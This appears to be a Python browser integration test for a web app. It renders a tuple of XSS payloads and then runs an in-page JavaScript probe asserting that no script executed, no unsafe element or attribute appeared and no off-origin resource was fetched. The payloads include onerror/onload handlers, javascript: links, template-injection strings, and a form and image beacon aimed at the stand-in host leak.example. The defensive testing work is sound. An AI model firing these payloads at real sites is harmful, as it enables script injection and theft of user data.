"""What a hostile text could do to a page, looked for in the browser itself."""

from tests.integration.browser.webdriver import Browser

_HARM = r"""
const found = [];
if (window.ran !== undefined || ({}).ran !== undefined) found.push("something ran");
const WRONG = "[data-ran], script:not([src]), iframe, frame, object, embed, base, marquee, math, "
  + "template, audio, video, form[action], body link, body meta, body style, svg script";
const ADDRESSES = ["href", "src", "srcset", "action", "formaction", "poster", "data", "background",
  "ping", "cite", "xlink:href"];
const isOwn = (text) => {
  try {
    const url = new URL(text, location.href);
    return url.origin === location.origin && [location.protocol, "blob:"].includes(url.protocol);
  } catch {
    return false;
  }
};
for (const each of document.querySelectorAll("*")) {
  const shown = each.cloneNode().outerHTML;
  if (each.matches(WRONG)) found.push(shown);
  for (const { name, value } of each.attributes) {
    if (name.startsWith("on")) found.push(shown);
    if (ADDRESSES.includes(name) && !isOwn(value)) found.push(shown);
    if (name === "style" && /url\(/.test(value)) found.push(shown);
  }
}
const sheets = [...document.styleSheets].map((sheet) => sheet.href ?? "https://inline.example");
const fetched = performance.getEntriesByType("resource").map((each) => each.name);
return found.concat([...sheets, ...fetched].filter((url) => !isOwn(url)));
"""

RUN = "window.ran=1"
HOSTILE = (
    f"<img src=x onerror={RUN}>",
    f"<script>{RUN}</script>",
    f'"><svg/onload={RUN}>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"[link](javascript:{RUN}) ![leak](https://leak.example/?q=1)",
    f"<a href='javascript:{RUN}'>わるい</a><style>*{{display:none}}</style>",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
    "</textarea></p></article><form action=https://leak.example><input name=key>",
    "\u202eesrever \u2066 isolate \u200b zero",
)
NAME = "<b onclick=1>蟹</b>"


def nothing_ran(window: Browser) -> None:
    """Check that nothing was executed, added or fetched, and that the policy forbade nothing."""
    assert window.run(_HARM) == []
    forbidden = ("Policy", "Refused", "TrustedHTML", "TrustedScript")
    logged = [line for line in window.logged() if any(word in line for word in forbidden)]
    assert logged == []
